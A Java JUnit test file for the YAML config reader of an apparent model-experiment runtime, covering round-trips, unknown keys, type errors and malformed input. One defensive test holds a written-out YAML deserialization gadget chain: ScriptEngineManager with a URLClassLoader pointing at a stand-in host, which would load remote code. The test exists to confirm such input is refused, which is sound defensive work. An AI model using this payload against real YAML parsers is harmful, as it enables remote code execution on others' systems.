package dev.genzoo.runtime.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.genzoo.api.GenzooException;
import dev.genzoo.api.Role;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

final class ConfigFileTest {

    private static ExperimentConfig sample() {
        Map<Role, String> names = new EnumMap<>(Role.class);
        names.put(Role.ENCODER, "mlp-gaussian");
        names.put(Role.PRIOR, "standard-normal");
        names.put(Role.DECODER, "mlp-bernoulli");
        names.put(Role.OBJECTIVE, "elbo");
        Map<Role, Map<String, String>> options = new EnumMap<>(Role.class);
        Map<String, String> encoder = new LinkedHashMap<>();
        encoder.put("hidden", "400,200");
        encoder.put("latent", "20");
        options.put(Role.ENCODER, encoder);
        options.put(Role.OBJECTIVE, Map.of("beta", "0.5"));
        SettingValues settings = SettingValues.defaults()
                .with(Settings.BINARIZE, "dynamic", "test")
                .with(Settings.EPOCHS, 3, "test")
                .with(Settings.BATCH_SIZE, 64, "test")
                .with(Settings.LEARNING_RATE, 2e-4, "test")
                .with(Settings.SEED, 7L, "test");
        return new ExperimentConfig(names, options, settings);
    }

    @Test
    void aWrittenConfigReadsBackAsTheSameDraft(@TempDir Path dir) {
        ExperimentConfig config = sample();
        Path file = dir.resolve("config.yaml");
        ConfigFile.write(file, config);
        ConfigDraft draft = ConfigFile.read(file);
        assertThat(draft.components).isEqualTo(config.toDraft().components);
        assertThat(draft.roleOptions.get(Role.ENCODER)).containsExactlyEntriesOf(config.options(Role.ENCODER));
        assertThat(draft.roleOptions.get(Role.OBJECTIVE)).containsEntry("beta", "0.5");
        assertThat(draft.get(Settings.LEARNING_RATE)).isEqualTo(2e-4);
        assertThat(draft.get(Settings.EPOCHS)).isEqualTo(3);
        assertThat(draft.get(Settings.SEED)).isEqualTo(7L);
        assertThat(draft.get(Settings.BINARIZE)).isEqualTo("dynamic");
    }

    @Test
    void flatOptionsAndListsAreAccepted(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("c.yaml");
        Files.writeString(
                file, "encoder: mlp-gaussian\noptions:\n  latent: 5\n  hidden: [32, 16]\n  decoder:\n    hidden: 8\n");
        ConfigDraft draft = ConfigFile.read(file);
        assertThat(draft.options).containsEntry("latent", "5").containsEntry("hidden", "32,16");
        assertThat(draft.roleOptions.get(Role.DECODER)).containsEntry("hidden", "8");
    }

    @Test
    void anUnknownKeyIsRefusedWithTheNearest(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("c.yaml");
        Files.writeString(file, "training:\n  epoch: 3\n");
        assertThatThrownBy(() -> ConfigFile.read(file))
                .isInstanceOf(GenzooException.class)
                .hasMessage("config file " + file + ": unknown key 'training.epoch'; did you mean 'epochs'?");
    }

    @Test
    void malformedYamlNamesTheLine(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("c.yaml");
        Files.writeString(file, "encoder: mlp-gaussian\ntraining: [unclosed\n");
        assertThatThrownBy(() -> ConfigFile.read(file))
                .isInstanceOf(GenzooException.class)
                .hasMessageStartingWith("config file " + file + " is not valid YAML at line");
    }

    @Test
    void yamlTagsThatWouldConstructObjectsAreRefused(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("c.yaml");
        Files.writeString(file, "device: !!java.io.File [\"/tmp\"]\n");
        assertThatThrownBy(() -> ConfigFile.read(file)).isInstanceOf(GenzooException.class);
    }

    @Test
    void aMissingFileIsOneSentence(@TempDir Path dir) {
        Path file = dir.resolve("absent.yaml");
        assertThatThrownBy(() -> ConfigFile.read(file)).hasMessage("config file " + file + " does not exist");
    }

    @Test
    void wrongTypesAreRefused(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("c.yaml");
        Files.writeString(file, "training:\n  epochs: many\n");
        assertThatThrownBy(() -> ConfigFile.read(file))
                .hasMessage("config file " + file + ": training.epochs must be an integer, got 'many'");
    }

    /** Built only if reading a config could construct an object of a class it names. */
    public static final class Tripwire {
        static volatile boolean built;

        /** Leaves the mark. */
        public Tripwire() {
            built = true;
        }
    }

    /**
     * A config, whether a --config file or the one inside a checkpoint, is plain data: a tag that
     * names a Java class (the way YAML deserialization attacks start) is refused in one sentence
     * naming the file and line, and nothing is constructed.
     */
    @Test
    void aConfigThatNamesClassesConstructsNothingAndIsOneSentence() {
        String[] texts = {
            "device: !!" + Tripwire.class.getName() + " []\n",
            "encoder: mlp-gaussian\noptions: !!javax.script.ScriptEngineManager"
                    + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n",
        };
        for (String text : texts) {
            assertThatThrownBy(() -> ConfigFile.parse(text, "run/checkpoint.zip!config.yaml"))
                    .as(text)
                    .isInstanceOf(GenzooException.class)
                    .hasMessageStartingWith("config file run/checkpoint.zip!config.yaml is not valid YAML at line ")
                    .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
        }
        assertThat(Tripwire.built).isFalse();
    }
}
